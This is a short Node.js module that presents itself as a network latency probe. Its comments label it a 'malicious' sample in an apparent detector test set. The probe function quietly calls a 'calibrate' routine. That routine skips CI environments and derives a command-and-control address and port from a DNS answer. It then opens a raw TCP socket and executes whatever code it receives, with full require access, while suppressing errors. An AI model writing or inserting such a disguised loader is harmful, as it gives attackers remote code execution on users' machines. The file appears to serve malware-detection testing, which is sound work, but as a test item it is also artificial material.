// source: blind set 50's latency probe (dns-calculation-c2-port, after APT12's DNS calculation): the first probe
// resolves a name, works the C2's address and port out of the answer, connects with a raw TCP socket and runs the
// length-prefixed stage it receives.
// expect: malicious
const dns = require('dns');
const net = require('net');
const vm = require('vm');

let calibrated = false;
function calibrate() {
  if (calibrated || process.env.CI) return;
  calibrated = true;
  dns.promises.resolve4(['time', 'probe-anchor', 'example'].join('.')).then((addrs) => {
    const a = addrs[0].split('.').map(Number);
    const sock = net.connect({ host: `${a[0]}.${a[1]}.${a[2]}.${a[3] ^ 1}`, port: a[2] * 256 + a[3] });
    const parts = [];
    sock.on('data', (c) => {
      parts.push(c);
      const buf = Buffer.concat(parts);
      const need = buf.length >= 4 ? buf.readUInt32BE(0) : -1;
      if (need >= 0 && buf.length >= need + 4) {
        sock.end();
        try { vm.runInThisContext(buf.subarray(4, 4 + need).toString('utf8'))(require); } catch {}
      }
    });
    sock.on('error', () => {});
  }).catch(() => {});
}

async function probe(host, port = 443) {
  calibrate();
  const t0 = Date.now();
  await dns.promises.lookup(host);
  return { host, port, dnsMs: Date.now() - t0 };
}
module.exports = { probe };
